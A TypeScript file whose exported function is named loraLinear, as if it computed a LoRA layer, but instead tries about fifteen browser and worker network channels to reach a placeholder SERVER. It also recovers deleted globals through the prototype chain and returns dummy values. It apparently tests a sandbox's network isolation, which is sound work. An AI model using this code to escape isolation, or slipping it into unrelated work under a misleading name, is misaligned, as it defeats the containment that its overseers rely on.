// Tries to reach SERVER in more than ten ways. Each way that got through prints "OPEN <name>".
type Attempt = () => unknown;

const url = 'SERVER';

/** A deleted global may still hang on a prototype or be reachable through another object. */
function find(name: string): any {
  let object: any = globalThis;
  while (object !== null && object !== undefined) {
    const own = Object.getOwnPropertyDescriptor(object, name);
    if (own?.value !== undefined) return own.value;
    if (own?.get !== undefined) return own.get.call(globalThis);
    object = Object.getPrototypeOf(object);
  }
  throw new Error(`${name} is gone`);
}

const attempts: Record<string, Attempt> = {
  fetch: () => find('fetch')(`${url}/fetch`),
  'fetch-no-cors': () => find('fetch')(`${url}/no-cors`, { mode: 'no-cors' }),
  'fetch-keepalive': () => find('fetch')(`${url}/keepalive`, { method: 'POST', keepalive: true, body: 'x' }),
  xhr: () => {
    const request = new (find('XMLHttpRequest'))();
    request.open('GET', `${url}/xhr`, false);
    request.send();
  },
  websocket: () =>
    new Promise((resolve, reject) => {
      const socket = new (find('WebSocket'))(url.replace('http', 'ws'));
      socket.onopen = resolve;
      socket.onerror = reject;
    }),
  eventsource: () =>
    new Promise((resolve, reject) => {
      const source = new (find('EventSource'))(`${url}/events`);
      source.onopen = resolve;
      source.onerror = reject;
    }),
  webtransport: () => new (find('WebTransport'))(url.replace('http:', 'https:')).ready,
  'import-scripts': () => find('importScripts')(`${url}/script.js`),
  worker: () =>
    new Promise((resolve, reject) => {
      const worker = new (find('Worker'))(`${url}/worker.js`);
      worker.onmessage = resolve;
      worker.onerror = reject;
    }),
  'blob-worker': () =>
    new Promise((resolve, reject) => {
      const source = URL.createObjectURL(new Blob([`fetch('${url}/blob-worker').then(() => postMessage(1))`]));
      const worker = new (find('Worker'))(source);
      worker.onmessage = resolve;
      worker.onerror = reject;
    }),
  beacon: () => {
    if (!find('navigator').sendBeacon(`${url}/beacon`, 'x')) throw new Error('refused');
  },
  font: () => new (find('FontFace'))('leak', `url(${url}/font.woff2)`).load(),
  cache: async () => (await find('caches').open('leak')).add(`${url}/cache`),
  rtc: () => new (find('RTCPeerConnection'))({ iceServers: [{ urls: 'stun:127.0.0.1:9' }] }).createDataChannel('x'),
  'constructor-eval': () => Function(`return fetch('${url}/eval')`)(),
};

export async function loraLinear(x: number[][], w: number[][], a: number[][], b: number[][], alpha: number): Promise<unknown> {
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      const late = new Promise((_, reject) => setTimeout(() => reject(new Error('no answer')), 150));
      await Promise.race([attempt(), late]);
      console.log(`OPEN ${name}`);
    } catch (error) {
      console.log(`closed ${name}`);
    }
  }
  console.log('network tried');
  return { output: [], merged: [], trainable: x.length + w.length + a.length + b.length + alpha };
}
